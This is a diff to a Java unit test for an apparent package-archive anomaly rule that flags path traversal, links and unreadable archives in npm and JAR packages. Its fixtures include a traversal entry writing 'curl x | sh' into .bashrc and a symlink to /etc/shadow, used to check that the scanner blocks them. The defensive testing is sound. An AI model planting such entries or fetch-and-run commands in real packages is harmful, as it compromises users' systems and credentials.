@@ -35,7 +35,8 @@ class ContentAnomalyRuleTest {
     }
 
     private static ContentSummary sized(long size) {
-        return new ContentSummary(size, ArchiveFormat.TAR_GZIP, PackageKind.NPM, List.of(), List.of(), List.of(), null);
+        return new ContentSummary(size, ArchiveFormat.TAR_GZIP, PackageKind.NPM, List.of(), List.of(), List.of(), List.of(),
+                null);
     }
 
     private static List<Finding> update(ContentSummary before, ContentSummary after, Policy policy) {
@@ -72,15 +73,16 @@ class ContentAnomalyRuleTest {
                 .file("package/../../../.bashrc", "curl x | sh").symlink("package/l", "/etc/shadow").gzip());
         Finding f = update(npm(ContentFixtures.npmApproved()), traversal).get(0);
         assertEquals(Severity.BLOCK, f.severity());
-        assertEquals("archive has unsafe entries: links, special files, absolute paths or ../", f.title());
+        assertEquals("archive has unsafe entries: special files, absolute paths, ../ or links out of the archive", f.title());
         assertEquals("package/../../../.bashrc (climbs out of the archive with ..); package/l (a link to /etc/shadow, "
-                + "never followed) (in demo-http-1.14.1.tgz)", f.found());
+                + "outside the archive, never followed) (in demo-http-1.14.1.tgz)", f.found());
     }
 
     @Test
     void theHostileCasesFollowABlockOrInfoPolicyAsIs() {
         ContentSummary hostile = new ContentSummary(10, ArchiveFormat.ZIP, PackageKind.JAR, List.of(), List.of(),
-                List.of("x (a link to /y, never followed)"), "archive cannot be read: invalid LOC header");
+                List.of("x (a link to /y, outside the archive, never followed)"), List.of(),
+                "archive cannot be read: invalid LOC header");
         List<Finding> info = RULE.evaluate(context(null, ContentRuleFixtures.severity(RuleId.CONTENT_ANOMALY, Severity.INFO),
                 evidence(NEW, "a.jar", hostile)));
         assertEquals(List.of(Severity.INFO, Severity.INFO), info.stream().map(Finding::severity).toList());
@@ -128,6 +130,18 @@ class ContentAnomalyRuleTest {
         ContentSummary before = npm(Archives.npm("{}", "build/Release/addon.node", ContentFixtures.elf()));
         ContentSummary after = npm(Archives.npm("{}", "prebuilds/addon.node", ContentFixtures.elf()));
         assertEquals(List.of(), update(before, after));
+    }
+
+    @Test
+    void aNewLinkInsideTheArchiveWarnsAndAnApprovedOneIsSilent() {
+        ContentSummary before = npm(Archives.tar().file("package/package.json", "{}").file("package/a.js", "1").gzip());
+        ContentSummary after = npm(Archives.tar().file("package/package.json", "{}").file("package/a.js", "1")
+                .symlink("package/lib/b.js", "../a.js").gzip());
+        assertEquals(List.of(), after.unsafeEntries());
+        Finding f = update(before, after).get(0);
+        assertEquals(Severity.WARN, f.severity());
+        assertEquals("new link inside the archive: package/lib/b.js -> ../a.js", f.title());
+        assertEquals(List.of(), update(after, after));
     }
 
     @Test
